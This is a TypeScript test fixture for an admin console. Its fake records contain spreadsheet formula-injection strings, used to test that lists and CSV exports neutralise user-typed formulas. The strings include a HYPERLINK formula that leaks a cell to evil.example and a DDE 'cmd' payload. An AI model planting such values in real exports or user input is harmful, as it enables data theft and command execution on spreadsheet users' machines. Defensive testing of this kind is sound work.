import type { AuthProvider, RaRecord } from "react-admin";
import { cleanup } from "@testing-library/react";
import { afterEach, vi } from "vitest";
import type { ConversationReply } from "@booking/contracts";
import type { ConsoleDataProvider } from "../src/data-provider.ts";

// The console without an API: a signed-in admin, and every resource answering with one record
// whose text, typed by users, starts the ways a spreadsheet takes for a formula.

export const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

/** Text a user typed, under every name a list shows or exports, each a formula a different way. */
const typed = {
  first_name: FORMULA,
  last_name: "-1+1",
  name: "+SUM(1,1)",
  title: "@SUM(1+1)*cmd|' /C calc'!A0",
  session_title: FORMULA,
  slug: "-2+3",
  text: "\t=1+1",
  need: "\r=1+1",
  subject: FORMULA,
  reason: "=1+1",
  last_error: "+1+1",
  creator_name: FORMULA,
  expert_name: "@me",
  hidden_reason: "=1",
  email: "+a@evil.example",
  to: "=1+1@evil.example",
};

const AT = "2026-01-10T12:00:00.000Z";
const ids = {
  expert: "00000000-0000-4000-8000-00000000000e",
  creator: "00000000-0000-4000-8000-00000000000c",
  booking: "00000000-0000-4000-8000-00000000000b",
};
const statusOf: Record<string, string> = { projections: "live", sessions: "published" };

/** One record of `resource`: the fields any list reads, with valid times, numbers and choices, and hostile text. */
export function hostileRecord(resource: string, id: RaRecord["id"] = "00000000-0000-4000-8000-000000000001"): RaRecord {
  return {
    id,
    ...typed,
    status: statusOf[resource] ?? "pending",
    ...{
      created_at: AT,
      updated_at: AT,
      scheduled_time: AT,
      registered_at: AT,
      owed_at: AT,
      next_attempt_at: AT,
      recorded_at: AT,
      accepted_at: AT,
    },
    issued_at: null,
    ...{ price_cents: 5000, amount_cents: 5000, rating: 5, attempts: 1, length_minutes: 60, version: 1, position: "1", events_applied: 0 },
    ...{ bookings_as_creator: 0, bookings_as_expert: 0, lag: null, head_events: null, generations: [], rebuild: null, earlier: [] },
    ...{
      payment_state: "paid",
      role: "creator",
      kind: "booking_requested",
      verified: false,
      published: true,
      hidden: false,
      deleted: false,
    },
    ...{
      accepted_current_terms: false,
      current_terms_accepted_at: null,
      current_terms_version: null,
      latest_terms_version: null,
      vetted_by: null,
    },
    ...{ expert_id: ids.expert, creator_id: ids.creator, booking_id: ids.booking, user_id: ids.creator, version_id: "2025-01" },
    stream_id: `session-${String(id)}`,
    type: "SessionPublished",
    data: { title: FORMULA },
    metadata: { actor: { role: "creator", userId: ids.creator }, note: "=1+1" },
  };
}

const refused = () => Promise.reject(new Error("The fake console API changes nothing."));

/** A booking's conversation (issue 31.3): two messages its parties typed, one a formula, open until a week after the session. */
export function fakeConversation(bookingId: string): ConversationReply {
  return {
    booking_id: bookingId,
    messages: [
      { id: "m1", by: ids.creator, role: "creator", text: FORMULA, sent_at: AT },
      { id: "m2", by: ids.expert, role: "expert", text: "Send the deck\nbefore Tuesday.", sent_at: "2026-01-10T12:30:00.000Z" },
    ],
    unread: 0,
    muted: false,
    open_until: "2026-01-17T13:00:00.000Z",
  };
}

/** The server's CSV (terms acceptances, early access): only asked for here; the API's own tests read what it writes. */
export const serverCsv = vi.fn<ConsoleDataProvider["exportCsv"]>(() =>
  Promise.resolve(new Blob(["from the server"], { type: "text/csv" })),
);

export const fakeDataProvider: ConsoleDataProvider = {
  getList: (resource) => Promise.resolve({ data: [hostileRecord(resource)], total: 1 }),
  getOne: (resource, { id }) => Promise.resolve({ data: hostileRecord(resource, id) }),
  getMany: (resource, { ids: wanted }) => Promise.resolve({ data: wanted.map((id) => hostileRecord(resource, id)) }),
  getManyReference: (resource) => Promise.resolve({ data: [hostileRecord(resource)], total: 1 }),
  create: refused,
  update: refused,
  updateMany: refused,
  delete: refused,
  deleteMany: refused,
  exportCsv: serverCsv,
  rebuildProjection: refused,
  bookingAsOf: refused,
  calendarAsOf: refused,
  expertStatement: refused,
  expertStatementFile: refused,
  startApplicationReview: refused,
  noteApplication: refused,
  decideApplication: refused,
  suspendExpert: refused,
  reinstateExpert: refused,
  expertStanding: refused,
  applicationAsOf: refused,
  decideNoShow: refused,
  disputeEvidence: refused,
  userDataExport: refused,
  openTestDispute: refused,
  bookingConversation: (bookingId) => Promise.resolve(fakeConversation(bookingId)),
} as ConsoleDataProvider;

export const signedInAdmin: AuthProvider = {
  login: () => Promise.resolve(),
  logout: () => Promise.resolve(),
  checkAuth: () => Promise.resolve(),
  checkError: () => Promise.resolve(),
  getIdentity: () => Promise.resolve({ id: "admin", fullName: "Ada Admin" }),
  getPermissions: () => Promise.resolve("admin"),
};

/** After each test: the console unmounted, signed out of storage, back at the start route. */
export function resetConsoleAfterEach(more: () => void = () => undefined): void {
  afterEach(() => {
    cleanup();
    localStorage.clear();
    window.location.hash = "";
    more();
  });
}
